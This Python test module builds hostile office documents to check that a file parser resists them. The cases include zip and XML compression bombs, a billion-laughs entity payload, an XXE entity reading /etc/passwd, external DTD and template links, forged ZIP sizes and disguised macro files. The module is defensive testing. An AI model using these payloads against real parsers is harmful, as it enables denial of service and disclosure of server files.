"""Hostile DOCX, XLSX, PPTX, ODT, ODS and ODP."""

import zlib
from functools import cache

from tests.files import making
from tests.files.conftest import make_docx
from tests.files.hostile.case import EMPTY, FAILED, MEGABYTE, NO_TEXT, READ, REFUSED, Hostile, inflating
from tests.files.hostile.ole import container
from tests.files.hostile.zips import Member, assembled, replaced, true

_WORD, _BOOK, _SHEET = "word/document.xml", "xl/workbook.xml", "xl/worksheets/sheet1.xml"
_STRINGS, _CONTENT, _TYPES = "xl/sharedStrings.xml", "content.xml", "[Content_Types].xml"
_LINKS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_LAUGHS = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10 if n else "ha"}">' for n in range(10))
_DAMAGED, _HEAVY, _LONG = "abîmé", "trop de mémoire", "trop de texte"


@cache
def docx() -> bytes:
    return make_docx(lambda document: document.add_paragraph("Une phrase saine."))


@cache
def pptx() -> bytes:
    return making.make_pptx(lambda shown: shown.slides.add_slide(shown.slide_layouts[5]))


@cache
def xlsx() -> bytes:
    return making.make_xlsx({"Feuille": [["texte", 1]]})


@cache
def odt() -> bytes:
    return making.make_odf("text", "<text:p>Une phrase saine.</text:p>")


def _main(sound: bytes, name: str, mark: bytes) -> tuple[bytes, bytes]:
    """The XML of a member, up to a mark and from it."""
    content = making.unzipped(sound)[name]
    at = content.index(mark)
    return content[:at], content[at:]


def _with(sound: bytes, name: str, mark: bytes, inserted: bytes) -> bytes:
    """The document with some XML put before a mark of a member."""
    before, after = _main(sound, name, mark)
    return replaced(sound, {name: before + inserted + after})


def _swollen(sound: bytes, name: str, mark: bytes, block: bytes, times: int, claimed: int = 0) -> bytes:
    """The document with a block put there as many times, in a few kilobytes."""
    before, after = _main(sound, name, mark)
    size = claimed or len(before) + len(block) * times + len(after)
    return replaced(sound, {name: Member(name, inflating(block, times, before, after), size=size)})


def _bomb(sound: bytes, name: str, mark: bytes) -> bytes:
    return _swollen(sound, name, mark, b"<!-- " + b" " * MEGABYTE + b" -->", 300)


def _word_text() -> bytes:
    sentence = b"<w:p><w:r><w:t>Une phrase de plus pour remplir la page.</w:t></w:r></w:p>"
    return _swollen(docx(), _WORD, b"<w:sectPr", sentence * 10_000, 100)


def _word_headings() -> bytes:
    heading = (
        b'<w:p><w:pPr><w:outlineLvl w:val="0"/></w:pPr><w:r><w:t>a</w:t></w:r></w:p><w:p><w:r><w:t>b</w:t></w:r></w:p>'
    )
    return _swollen(docx(), _WORD, b"<w:sectPr", heading * 1000, 200)


def _declared(declaration: str, sound: bytes, name: str, phrase: bytes, encoding: str = "utf-8") -> bytes:
    text = making.unzipped(sound)[name].replace(phrase, b"&e9;").decode().partition("?>")[2]
    return replaced(sound, {name: f'<?xml version="1.0" encoding="{encoding}"?>{declaration}{text}'.encode(encoding)})


def _external_template() -> bytes:
    links = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
        f'Type="{_LINKS}/attachedTemplate" Target="http://192.0.2.1/a.dotm" TargetMode="External"/></Relationships>'
    )
    settings = making.unzipped(docx())["word/settings.xml"].replace(
        b"<w:zoom", f'<w:attachedTemplate r:id="rId1" xmlns:r="{_LINKS}"/><w:zoom'.encode(), 1
    )
    return replaced(docx(), {"word/settings.xml": settings, "word/_rels/settings.xml.rels": links.encode()})


def _attributes() -> bytes:
    many = " ".join(f'w:a{number}="1"' for number in range(200_000))
    return _with(docx(), _WORD, b"<w:sectPr", f"<w:p {many}/>".encode())


def _overlapping() -> bytes:
    """A thousand members that are the same bytes: those of 10 MB of comments."""
    before, after = _main(docx(), _WORD, b"<w:sectPr")
    packed = inflating(b"<!-- " + b" " * MEGABYTE + b" -->", 10, before, after)
    whole = {name: true(name, content) for name, content in making.unzipped(docx()).items() if name != _WORD}
    first = Member(_WORD, packed, size=10 * MEGABYTE)
    notes = [
        Member(f"word/header{number}.xml", packed, size=10 * MEGABYTE, at=0, written=False) for number in range(1000)
    ]
    return assembled([first, *whole.values(), *notes])


def _macros(media: str, sound: bytes) -> bytes:
    types = making.unzipped(sound)[_TYPES]
    kind = {"docx": "wordprocessingml.document", "xlsx": "spreadsheetml.sheet", "pptx": "presentationml.presentation"}
    macro = {"docx": "ms-word.document", "xlsx": "ms-excel.sheet", "pptx": "ms-powerpoint.presentation"}
    plain = f"application/vnd.openxmlformats-officedocument.{kind[media]}.main+xml".encode()
    assert plain in types
    changed = types.replace(plain, f"application/vnd.{macro[media]}.macroEnabled.main+xml".encode())
    return replaced(sound, {_TYPES: changed})


def _far_cell() -> bytes:
    rows = b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
    return _with(xlsx(), _SHEET, b"</sheetData>", rows)


def _declares_all() -> bytes:
    return _with(xlsx(), _SHEET, b"<sheetData>", b'<dimension ref="A1:XFD1048576"/>')


def _shared_string() -> bytes:
    """A string of 30,000 letters that a million cells show."""
    strings = making.unzipped(xlsx())[_STRINGS].replace(b"texte", b"x" * 30_000)
    rows = b'<row><c t="s"><v>0</v></c></row>' * 1_000_000
    before, after = _main(xlsx(), _SHEET, b"</sheetData>")
    return replaced(xlsx(), {_STRINGS: strings, _SHEET: before + rows + after})


def _repeated_cells(rows: int, columns: int) -> bytes:
    return making.make_odf(
        "spreadsheet",
        f'<table:table table:name="a"><table:table-row table:number-rows-repeated="{rows}">'
        f'<table:table-cell office:value-type="string" table:number-columns-repeated="{columns}"><text:p>x</text:p>'
        "</table:table-cell></table:table-row></table:table>",
    )


def _groups() -> bytes:
    """A slide whose groups hold one another."""
    opening = b"<p:grpSp><p:nvGrpSpPr><p:cNvPr id='9' name=''/><p:cNvGrpSpPr/><p:nvPr/></p:nvGrpSpPr><p:grpSpPr/>"
    return _with(pptx(), "ppt/slides/slide1.xml", b"</p:spTree>", opening * 200 + b"</p:grpSp>" * 200)


def _laughs_in_utf_16() -> bytes:
    body = _declared(f"<!DOCTYPE x [{_LAUGHS}]>", odt(), _CONTENT, b"Une phrase saine.", "utf-16")
    assert b"<!DOCTYPE" not in making.unzipped(body)[_CONTENT]
    return body


def _forged(claimed: int) -> bytes:
    return _swollen(docx(), _WORD, b"<w:sectPr", b"<!-- " + b" " * MEGABYTE + b" -->", 300, claimed)


def _claims_much() -> bytes:
    content = making.unzipped(docx())[_WORD]
    packed = inflating(content, 1)
    member = Member(_WORD, packed, size=0xFFFFFFF0, checksum=zlib.crc32(content))
    return replaced(docx(), {_WORD: member})


_SANE = b"Une phrase saine."

OFFICE = (
    Hostile("DOCX, 300 Mo de vide dans le texte", "a.docx", lambda: _bomb(docx(), _WORD, b"<w:sectPr"), FAILED, _HEAVY),
    Hostile("DOCX, 40 Mo de lettres", "a.docx", _word_text, FAILED, _LONG),
    Hostile("DOCX, 200 000 titres d'une lettre", "a.docx", _word_headings, FAILED, _LONG),
    Hostile("DOCX, un paragraphe de 30 Mo", "a.docx",
            lambda: _swollen(docx(), _WORD, b"Une phrase", b"mot " * 1000, 8000), FAILED, _LONG),
    Hostile("DOCX, un milliard de rires (entités emboîtées)", "a.docx",
            lambda: _declared(f"<!DOCTYPE x [{_LAUGHS}]>", docx(), _WORD, _SANE), FAILED, _DAMAGED),
    Hostile("ODT, un milliard de rires en UTF-16", "a.odt", _laughs_in_utf_16, FAILED, _DAMAGED),
    Hostile("DOCX qui demande un fichier du serveur", "a.docx",
            lambda: _declared('<!DOCTYPE x [<!ENTITY e9 SYSTEM "file:///etc/passwd">]>', docx(), _WORD, _SANE),
            FAILED, _DAMAGED),
    Hostile("ODT qui demande une adresse", "a.odt",
            lambda: _declared('<!DOCTYPE x SYSTEM "http://192.0.2.1/x.dtd">', odt(), _CONTENT, _SANE),
            FAILED, _DAMAGED),
    Hostile("DOCX dont le modèle est à une adresse", "a.docx", _external_template, READ),
    Hostile("DOCX, 300 Mo déclarés 100 octets", "a.docx", lambda: _forged(100), FAILED, _DAMAGED),
    Hostile("DOCX, 2 ko déclarés 4 Go", "a.docx", _claims_much, READ),
    Hostile("DOCX, mille membres aux mêmes octets", "a.docx", _overlapping, FAILED, _DAMAGED),
    Hostile("DOCX, 300 000 éléments emboîtés", "a.docx",
            lambda: _swollen(docx(), _WORD, b"<w:sectPr", b"<w:p>" * 1000, 300), FAILED, _DAMAGED),
    Hostile("DOCX, un élément de 200 000 attributs", "a.docx", _attributes, READ),
    Hostile("DOCX nommé .pdf", "a.pdf", docx, READ),
    Hostile("DOCX protégé par un mot de passe", "a.docx",
            lambda: container({"EncryptionInfo": b"x", "EncryptedPackage": b"x"}), REFUSED, "sans protection"),
    Hostile("ODT protégé par un mot de passe", "a.odt",
            lambda: making.make_odf("text", "", manifest=making.encrypted_manifest()), REFUSED, "sans protection"),
    Hostile("DOCM nommé .docx", "a.docx", lambda: _macros("docx", docx()), REFUSED, "sans macro (.docx)"),
    Hostile("XLSM", "a.xlsm", lambda: _macros("xlsx", xlsx()), REFUSED, "sans macro (.xlsx)"),
    Hostile("PPTM", "a.pptm", lambda: _macros("pptx", pptx()), REFUSED, "sans macro (.pptx)"),
    Hostile("DOCX qui cache des macros", "a.docx", lambda: replaced(docx(), {"word/vbaProject.bin": b"x"}), REFUSED,
            "sans macro (.docx)"),
    Hostile("ODT avec une macro Basic", "a.odt", lambda: replaced(odt(), {"Basic/Standard/A.xml": b"x"}), REFUSED,
            "sans macro (.odt)"),
    Hostile("XLSX, une cellule au bout de la feuille", "a.xlsx", _far_cell, FAILED, _HEAVY),
    Hostile("XLSX qui déclare 17 milliards de cellules", "a.xlsx", _declares_all, READ),
    Hostile("XLSX, 30 000 lettres montrées un million de fois", "a.xlsx", _shared_string, FAILED, _HEAVY),
    Hostile("XLSX, 300 Mo de vide dans une feuille", "a.xlsx", lambda: _bomb(xlsx(), _SHEET, b"</sheetData>"), FAILED,
            _HEAVY),
    Hostile("ODS, mille milliards de cellules répétées", "a.ods", lambda: _repeated_cells(10**6, 10**6), FAILED,
            _DAMAGED),
    Hostile("ODS, 50 millions de cellules répétées", "a.ods", lambda: _repeated_cells(5000, 10_000), FAILED, _HEAVY),
    Hostile("PPTX, 300 Mo de vide dans une diapositive", "a.pptx",
            lambda: _bomb(pptx(), "ppt/slides/slide1.xml", b"</p:spTree>"), FAILED, _HEAVY),
    Hostile("PPTX, groupes emboîtés", "a.pptx", _groups, EMPTY, NO_TEXT),
    Hostile("ODT, 300 Mo de vide", "a.odt", lambda: _bomb(odt(), _CONTENT, b"</office:text>"), FAILED, _HEAVY),
    Hostile("ODT, un milliard d'espaces en une balise", "a.odt",
            lambda: making.make_odf("text", '<text:p>a<text:s text:c="1000000000"/>b</text:p>'), READ),
)  # fmt: skip
